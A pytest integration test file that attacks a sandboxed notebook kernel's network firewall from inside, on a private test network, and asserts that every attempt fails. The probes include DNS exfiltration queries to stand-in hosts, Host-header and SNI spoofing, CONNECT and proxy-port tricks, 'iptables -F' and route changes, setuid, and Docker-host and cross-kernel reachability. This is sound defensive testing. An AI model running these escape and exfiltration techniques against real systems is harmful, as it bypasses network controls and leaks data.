"""The threat model (docs/threat-model.md), attacked from inside a sandboxed kernel.

Each attack runs as notebook code in a real kernel against our own test
internet. An attack passes only when it fails inside the kernel AND the
judges (the canary, the test DNS server's query log, the web servers' request
logs, a listener on the Docker host) show that nothing arrived. "The request
errored" alone proves nothing.
"""

from __future__ import annotations

import socket
import threading

import pytest

from tests.integration.gvisor import under_gvisor

# Code shared by probes: run inside the kernel (stdlib + requests only).
# The explicit proxy as the kernel reaches it: 127.0.0.1, or in a routed pod
# (a runtime with its own network stack: 127.0.0.1 is that stack's own
# loopback) the proxy's end of the kernel's link. HTTP_PROXY names it.
PROXY = 'PROXY = __import__("urllib.parse").parse.urlsplit(__import__("os").environ["HTTP_PROXY"]).hostname\n'

TCP = PROXY + """
import json, socket
def tcp(host, port, payload=b"", timeout=3):
    s = socket.socket(); s.settimeout(timeout)
    try:
        s.connect((host, port))
        if payload: s.sendall(payload)
        try: data = s.recv(200)
        except OSError as e: data = repr(e).encode()
        return "connected:" + data.decode(errors="replace")
    except OSError as e:
        return "error:" + type(e).__name__
    finally:
        s.close()
"""


def _assert_blocked(result: str):
    assert not result.startswith("connected:") or "403" in result or "409" in result or result == "connected:", result


# --- positive controls -------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("use_proxy_env", [True, False], ids=["proxy-env", "transparent"])
def test_allowed_host_works(kernel, testnet, scheme, use_proxy_env):
    mark = testnet.mark()
    body = kernel.probe(f"""
        import json, requests, urllib3
        urllib3.disable_warnings()
        s = requests.Session(); s.trust_env = {use_proxy_env!r}
        r = s.get("{scheme}://allowed.test/control", verify=False, timeout=10)
        print(json.dumps([r.status_code, r.text]))
    """)
    assert body == [200, "hello from allowed.test"] or (body[0] == 200 and "allowed.test" in body[1])
    assert testnet.web_hits("allowed.test", since=mark), "the allowed request never reached the server"


def test_allowed_subdomain_and_second_domain(kernel, testnet):
    res = kernel.probe("""
        import json, requests
        s = requests.Session(); s.trust_env = False
        print(json.dumps([s.get(u, timeout=10).status_code for u in
              ("http://api.allowed.test/", "http://other.test/")]))
    """)
    assert res == [200, 200]


# --- names that are not allowed ----------------------------------------------------------


@pytest.mark.parametrize("use_proxy_env", [True, False], ids=["proxy-env", "transparent"])
@pytest.mark.parametrize("scheme", ["http", "https"])
def test_blocked_name_gets_nothing(kernel, testnet, scheme, use_proxy_env):
    mark = testnet.mark()
    res = kernel.probe(f"""
        import json, requests
        s = requests.Session(); s.trust_env = {use_proxy_env!r}
        try:
            r = s.get("{scheme}://blocked.test/secret", verify=False, timeout=10)
            print(json.dumps(["response", r.status_code, r.text[:2000], dict(r.headers)]))
        except Exception as e:
            print(json.dumps(["error", type(e).__name__, str(e)[:300]]))
    """)
    if res[0] == "response":
        assert res[1] == 403, res
        assert "blocked.test" in res[2] and "allow_domains" in res[2], "the denial must name host and setting"
    assert testnet.web_hits("blocked.test", since=mark) == []
    assert not [q for q in testnet.dns_queries(since=mark) if "blocked" in q["name"]]


def test_explicit_proxy_denial_names_host_and_setting(kernel):
    res = kernel.probe("""
        import json, requests
        r = requests.get("http://blocked.test/x", timeout=10)
        print(json.dumps([r.status_code, r.text, dict(r.headers)]))
    """)
    status, body, headers = res
    assert status == 403
    assert "blocked.test" in body and "allow_domains" in body
    assert any("blocked.test" in v for v in headers.values()), headers
    assert any("allow_domains" in v for v in headers.values()), headers


# --- raw addresses, other ports, other protocols --------------------------------------------


def test_direct_ip_connections_on_any_port_are_refused(kernel, testnet):
    mark = testnet.mark()
    canary = testnet.ips["canary.test"]
    allowed = testnet.ips["allowed.test"]
    targets = [(canary, p) for p in (21, 22, 25, 53, 80, 443, 853, 2375, 3128, 5353, 8080, 8443, 9999, 50000)]
    targets += [(allowed, 8080), (allowed, 8443)]
    res = kernel.probe(TCP, f"""
        out = {{f"{{h}}:{{p}}": tcp(h, p, b"GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n") for h, p in {targets!r}}}
        print(json.dumps(out))
    """, timeout=120)
    for target, result in res.items():
        # 80/443 to a raw IP reach Squid, which refuses (403/409/reset); other ports are reset at once.
        assert "hello from" not in result and "canary" not in result, (target, result)
    assert testnet.canary_hits(since=mark) == []
    assert [h for h in testnet.web_hits("allowed.test", since=mark) if h.get("port") in (8080, 8443)] == []


def test_udp_and_quic_never_leave(kernel, testnet):
    mark = testnet.mark()
    canary = testnet.ips["canary.test"]
    res = kernel.probe(f"""
        import json, socket
        out = {{}}
        for port in (443, 123, 9999, 853, 5353):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
            try:
                s.sendto(b"\\xc0\\x00\\x00\\x00\\x01quic-initial" if port == 443 else b"hello", ("{canary}", port))
                s.recvfrom(100); out[port] = "answered"
            except OSError as e:
                out[port] = type(e).__name__
            finally:
                s.close()
        print(json.dumps(out))
    """)
    assert "answered" not in res.values(), res
    assert testnet.canary_hits(since=mark) == []


def test_ipv6_has_no_way_out(kernel, testnet):
    mark = testnet.mark()
    canary, blocked = testnet.ips["canary.test"], testnet.ips["blocked.test"]
    # Only our own hosts as targets: v4-mapped, and the NAT64 well-known prefix over the canary.
    nat64 = "64:ff9b::" + ":".join(f"{int(a) * 256 + int(b):x}" for a, b in [canary.split(".")[:2], canary.split(".")[2:]])
    res = kernel.probe(TCP, f"""
        out = {{}}
        for addr in ("::ffff:{canary}", "::ffff:{blocked}", "{nat64}"):
            s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(3)
            try:
                s.connect((addr, 22)); out[addr] = "connected"
            except OSError as e:
                out[addr] = type(e).__name__
            finally:
                s.close()
        print(json.dumps(out))
    """)
    assert "connected" not in res.values(), res
    assert testnet.canary_hits(since=mark) == []


# --- DNS ---------------------------------------------------------------------------------------


def test_dns_to_other_servers_is_answered_by_the_pod(kernel, testnet):
    """Queries addressed straight to the test DNS server or the canary are
    redirected to the pod's resolver: neither sees them."""
    mark = testnet.mark()
    res = kernel.probe(f"""
        import json, socket, struct, random
        def query(server, name):
            q = struct.pack("!HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
            q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!HH", 1, 1)
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
            try:
                s.sendto(q, (server, 53)); data, _ = s.recvfrom(512)
                return data[3] & 0x0F   # rcode
            except OSError as e:
                return type(e).__name__
            finally:
                s.close()
        print(json.dumps({{
            "dns": query("{testnet.dns_ip}", "direct-exfil-1.blocked.test"),
            "canary": query("{testnet.ips['canary.test']}", "direct-exfil-2.blocked.test"),
        }}))
    """)
    assert res == {"dns": 3, "canary": 3}, res  # NXDOMAIN from the pod's resolver
    assert not [q for q in testnet.dns_queries(since=mark) if "exfil" in q["name"]]
    assert testnet.canary_hits(since=mark) == []


def test_dns_exfiltration_through_the_pod_resolver(kernel, testnet):
    mark = testnet.mark()
    res = kernel.probe("""
        import json, socket
        out = {}
        for name in ("c2VjcmV0.blocked.test", "secret-data.canary.test", "x.y.allowedxtest.test",
                     "allowed.test.evil.test", "exfil.other.test"):
            try:
                socket.getaddrinfo(name, 80); out[name] = "resolved"
            except socket.gaierror as e:
                out[name] = "gaierror"
        print(json.dumps(out))
    """)
    assert set(res.values()) == {"gaierror"}, res
    leaked = [q for q in testnet.dns_queries(since=mark)
              if any(s in q["name"] for s in ("c2VjcmV0", "secret-data", "allowedxtest", "evil", "exfil"))]
    assert leaked == []


def test_tcp_dns_is_not_a_way_around(kernel, testnet):
    mark = testnet.mark()
    res = kernel.probe(TCP, f"""
        print(json.dumps(tcp("{testnet.dns_ip}", 53, b"\\x00\\x1d" + b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\x00" * 6)))
    """)
    assert "connected:" not in res or len(res) <= len("connected:") + 40
    assert not [q for q in testnet.dns_queries(since=mark) if q.get("proto") == "tcp"]


# --- Host, SNI and CONNECT tricks ------------------------------------------------------------------


def test_host_header_spoofing(kernel, testnet):
    """Allowed Host header, but addressed to the canary / to the blocked server."""
    mark = testnet.mark()
    canary, blocked = testnet.ips["canary.test"], testnet.ips["blocked.test"]
    res = kernel.probe(TCP, f"""
        req = b"GET /spoof HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"
        print(json.dumps({{"canary": tcp("{canary}", 80, req), "blocked": tcp("{blocked}", 80, req)}}))
    """)
    for result in res.values():
        assert "hello from" not in result and "canary" not in result.replace("canary.test", ""), res
    assert testnet.canary_hits(since=mark) == []
    assert testnet.web_hits("blocked.test", since=mark) == []


def test_host_header_of_blocked_name_to_allowed_address(kernel, testnet):
    mark = testnet.mark()
    allowed = testnet.ips["allowed.test"]
    res = kernel.probe(TCP, f"""
        req = b"GET /x HTTP/1.1\\r\\nHost: blocked.test\\r\\nConnection: close\\r\\n\\r\\n"
        print(json.dumps(tcp("{allowed}", 80, req)))
    """)
    assert "hello from" not in res
    assert testnet.web_hits("blocked.test", since=mark) == []
    assert [h for h in testnet.web_hits("allowed.test", since=mark) if "blocked" in str(h.get("host"))] == []


SNI = """
import json, socket, ssl
def tls(ip, sni, port=443):
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((ip, port), timeout=5)
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET / HTTP/1.0\\r\\nHost: " + sni.encode() + b"\\r\\n\\r\\n")
        return "tls:" + t.recv(200).decode(errors="replace")
    except OSError as e:
        return "error:" + type(e).__name__
    finally:
        s.close()
"""


def test_sni_spoofing(kernel, testnet):
    """An allowed SNI sent to another address, and a blocked SNI sent to the allowed address."""
    mark = testnet.mark()
    canary, allowed, blocked = (testnet.ips[n] for n in ("canary.test", "allowed.test", "blocked.test"))
    res = kernel.probe(SNI, f"""
        print(json.dumps({{
            "allowed-sni-to-canary": tls("{canary}", "allowed.test"),
            "allowed-sni-to-blocked": tls("{blocked}", "allowed.test"),
            "blocked-sni-to-allowed": tls("{allowed}", "blocked.test"),
            "no-sni-to-allowed-ip": tls("{allowed}", None),
        }}))
    """)
    for name, result in res.items():
        assert "hello from" not in result, (name, res)
    assert testnet.canary_hits(since=mark) == []
    assert testnet.web_hits("blocked.test", since=mark) == []
    assert [h for h in testnet.web_hits("allowed.test", since=mark) if h.get("sni") != "allowed.test"] == []


def test_sni_and_connect_must_agree(kernel, testnet):
    """CONNECT to an allowed host, then a ClientHello for a blocked one."""
    mark = testnet.mark()
    res = kernel.probe(PROXY, """
        import json, socket, ssl
        s = socket.create_connection((PROXY, 3128), timeout=5)
        s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n")
        head = s.recv(200).decode(errors="replace")
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
        try:
            t = ctx.wrap_socket(s, server_hostname="blocked.test")
            t.sendall(b"GET / HTTP/1.0\\r\\nHost: blocked.test\\r\\n\\r\\n")
            out = t.recv(200).decode(errors="replace")
        except OSError as e:
            out = "error:" + type(e).__name__
        print(json.dumps([head.split("\\r\\n")[0], out]))
    """)
    assert "hello from" not in res[1], res
    assert testnet.web_hits("blocked.test", since=mark) == []
    assert [h for h in testnet.web_hits("allowed.test", since=mark) if h.get("sni") == "blocked.test"] == []


def test_connect_to_other_ports(kernel, testnet):
    mark = testnet.mark()
    res = kernel.probe(TCP, """
        out = {}
        for target in ("allowed.test:8443", "allowed.test:22", "canary.test:443", "allowed.test:80"):
            out[target] = tcp(PROXY, 3128, f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
        print(json.dumps(out))
    """)
    for target, result in res.items():
        assert " 200 " not in result.split("\r\n")[0], (target, result)
    assert testnet.canary_hits(since=mark) == []
    assert [h for h in testnet.web_hits("allowed.test", since=mark) if h.get("port") != 80] == []


def test_proxy_management_interface_unreachable(kernel):
    res = kernel.probe(TCP, """
        out = {}
        for path in ("/squid-internal-mgr/menu", "/squid-internal-mgr/info", "/squid-internal-mgr/config"):
            out[path] = tcp(PROXY, 3128, f"GET http://{PROXY}:3128{path} HTTP/1.0\\r\\n\\r\\n".encode())
        out["cache_object"] = tcp(PROXY, 3128, b"GET cache_object://localhost/info HTTP/1.0\\r\\n\\r\\n")
        print(json.dumps(out))
    """)
    for what, result in res.items():
        assert "200 OK" not in result and "Squid Object Cache" not in result, (what, result)


# --- privileges, the firewall itself, the host ---------------------------------------------------


def test_kernel_holds_no_capability_and_no_root(kernel):
    res = kernel.probe("""
        import json, os
        status = dict(l.split(":\\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\\t" in l)
        import ctypes
        keys = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Uid")
        out = {k: status[k].strip() for k in keys if k in status}
        out["nnp"] = ctypes.CDLL(None, use_errno=True).prctl(39, 0, 0, 0, 0)  # PR_GET_NO_NEW_PRIVS
        print(json.dumps(out))
    """)
    # gVisor (2022) shows no CapAmb and NoNewPrivs lines in /proc/self/status;
    # prctl answers for every runtime.
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd") + (() if under_gvisor() else ("CapAmb",)):
        assert int(res[cap], 16) == 0, res
    assert res["nnp"] == 1, res
    assert under_gvisor() or res["NoNewPrivs"] == "1"
    assert all(int(u) != 0 for u in res["Uid"].split())


def test_kernel_cannot_change_the_firewall_or_routes(kernel, testnet):
    mark = testnet.mark()
    canary = testnet.ips["canary.test"]
    res = kernel.probe(TCP, f"""
        import os, subprocess, shutil
        out = {{}}
        try:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP); out["raw"] = "opened"
        except OSError as e:
            out["raw"] = type(e).__name__
        try:
            os.setuid(0); out["setuid"] = "root"
        except OSError as e:
            out["setuid"] = type(e).__name__
        for cmd in (["iptables", "-F"], ["iptables", "-t", "nat", "-F"], ["ip", "route", "add", "default", "via", "{testnet.gateway}"]):
            exe = shutil.which(cmd[0])
            if exe:
                out[" ".join(cmd)] = subprocess.run(cmd, capture_output=True).returncode
        try:
            open("/proc/sys/net/ipv4/ip_forward", "w").write("1"); out["sysctl"] = "written"
        except OSError as e:
            out["sysctl"] = type(e).__name__
        out["after"] = tcp("{canary}", 22)
        print(json.dumps(out))
    """)
    # gVisor with --network=host offers no raw sockets at all (EAFNOSUPPORT), whatever the capabilities.
    assert res["raw"] in (("PermissionError", "OSError") if under_gvisor() else ("PermissionError",)), res
    assert res["setuid"] == "PermissionError", res
    assert res["sysctl"] != "written"
    assert all(v != 0 for k, v in res.items() if k.startswith(("iptables", "ip ")))
    assert res["after"].startswith("error:")
    assert testnet.canary_hits(since=mark) == []


def test_no_docker_socket(kernel):
    res = kernel.probe("""
        import json, os, glob
        socks = [p for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock") if os.path.exists(p)]
        print(json.dumps(socks + glob.glob("/**/docker.sock", recursive=False)))
    """)
    assert res == []


def test_docker_host_unreachable(kernel, testnet):
    """A listener on every host address (0.0.0.0): the gateway of the test
    network and of the pod's own networks are the Docker host."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    port = srv.getsockname()[1]
    hits = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, addr = srv.accept()
                hits.append(addr)
                conn.close()
            except OSError:
                continue

    t = threading.Thread(target=accept, daemon=True)
    t.start()
    try:
        res = kernel.probe(TCP, f"""
            import ipaddress
            gws = {{"{testnet.gateway}"}}
            for l in open("/proc/net/route").read().splitlines()[1:]:
                f = l.split()
                net = ipaddress.IPv4Address(int(f[1], 16).to_bytes(4, "little"))
                if str(net) != "0.0.0.0":
                    gws.add(str(net + 1))
            print(json.dumps({{g: [tcp(g, {port}), tcp(g, 80), tcp(g, 443)] for g in sorted(gws)}}))
        """)
    finally:
        stop.set()
        t.join()
        srv.close()
    assert hits == [], f"the Docker host got connections from the kernel: {hits} ({res})"
    for gw, results in res.items():
        assert results[0].startswith("error:"), (gw, results)


def test_second_kernels_pod_unreachable(start_kernel, testnet, docker_client):
    """Kernel A tries every address of kernel B's pod, on B's kernel, proxy and resolver ports."""
    from awf_kernel import naming
    from tests.integration.conftest import ALLOW

    a = start_kernel(policy={"allow_domains": ALLOW})
    b = start_kernel(policy={"allow_domains": ALLOW})
    from awf_kernel.sandbox.docker import pod_containers

    proxy_b = [c for c in pod_containers(b.kernel_id) if c.labels[naming.ROLE] == "proxy"][0]  # pool pods too
    ips_b = [n["IPAddress"] for n in proxy_b.attrs["NetworkSettings"]["Networks"].values() if n["IPAddress"]]
    # (port 53 is not on the list: DNS to any address is answered by A's own
    # resolver, see test_dns_to_other_servers_is_answered_by_the_pod)
    ports_b = [b.km.shell_port, b.km.hb_port, b.km.control_port, 3128, 3129, 3130, 5353]
    res = a.probe(TCP, f"""
        print(json.dumps({{f"{{ip}}:{{p}}": tcp(ip, p) for ip in {ips_b!r} for p in {ports_b!r}}}))
    """, timeout=120)
    for target, result in res.items():
        assert result.startswith("error:"), (target, result)
    # B still works and saw nothing odd: its heartbeat answers
    assert b.km.is_alive()


def test_kernel_cannot_read_the_proxy_or_other_kernels(start_kernel, docker_client):
    from tests.integration.conftest import ALLOW

    a = start_kernel(policy={"allow_domains": ALLOW})
    b = start_kernel(policy={"allow_domains": ALLOW})
    res = a.probe(f"""
        import json, os, glob
        procs = [open(f"/proc/{{p}}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()]
        print(json.dumps({{
            "squid_conf": os.path.exists("/etc/awf/squid.conf"),
            "proxy_key": os.path.exists("/etc/awf-proxy/key.pem"),
            "squid_procs": [p for p in procs if "squid" in p or "resolver" in p],
            "connection_files": sorted(glob.glob("/awf/connection/*")),
            "other_kernel": glob.glob("/**/*{b.kernel_id}*", recursive=False),
            "audit_writable": os.access("/awf/audit", os.W_OK),
        }}))
    """)
    assert res["squid_conf"] is False and res["proxy_key"] is False
    assert res["squid_procs"] == []  # its own PID namespace: the proxy is invisible
    assert res["connection_files"] == ["/awf/connection/kernel.json"]
    assert res["other_kernel"] == []
    assert res["audit_writable"] is False
    key_b = b.km.session.key.decode()
    own = a.probe("import json; print(json.dumps(open('/awf/connection/kernel.json').read()))")
    assert key_b not in own


def test_proxy_runs_unprivileged(kernel, docker_client):
    from awf_kernel import naming

    from awf_kernel.sandbox.docker import pod_containers

    proxy = [c for c in pod_containers(kernel.kernel_id) if c.labels[naming.ROLE] == "proxy"][0]  # pool pods too
    hc = proxy.attrs["HostConfig"]
    assert hc["CapDrop"] == ["ALL"] and not hc.get("CapAdd") and "no-new-privileges" in hc["SecurityOpt"]
    top = proxy.top(ps_args="-o pid,user,args")
    users = {row[1] for row in top["Processes"] if "squid" in row[2] or "resolver" in row[2]}
    assert users == {"proxy"}, top
    assert not hc.get("Binds") or all("docker.sock" not in b for b in hc["Binds"])


def test_talking_to_the_intercept_ports_directly(kernel, testnet):
    """Squid's intercept ports reached without NAT (no original destination),
    where the kernel reaches Squid (PROXY: loopback, or a routed pod's link):
    neither a blocked Host nor a blocked SNI may get through."""
    mark = testnet.mark()
    res = kernel.probe(TCP, SNI, """
        def guarded(fn, *args):
            try:
                return fn(*args)
            except OSError as e:
                return "error:" + type(e).__name__
        out = {
            "http-3129": tcp(PROXY, 3129, b"GET /direct HTTP/1.1\\r\\nHost: blocked.test\\r\\n\\r\\n"),
            "http-3129-absolute": tcp(PROXY, 3129, b"GET http://blocked.test/direct HTTP/1.1\\r\\nHost: blocked.test\\r\\n\\r\\n"),
            "tls-3130": guarded(tls, PROXY, "blocked.test", 3130),
            "tls-3130-allowed-sni": guarded(tls, PROXY, "allowed.test", 3130),
        }
        print(json.dumps(out))
    """)
    for name, result in res.items():
        assert "hello from" not in result, (name, res)
    assert testnet.web_hits("blocked.test", since=mark) == []
    assert testnet.canary_hits(since=mark) == []
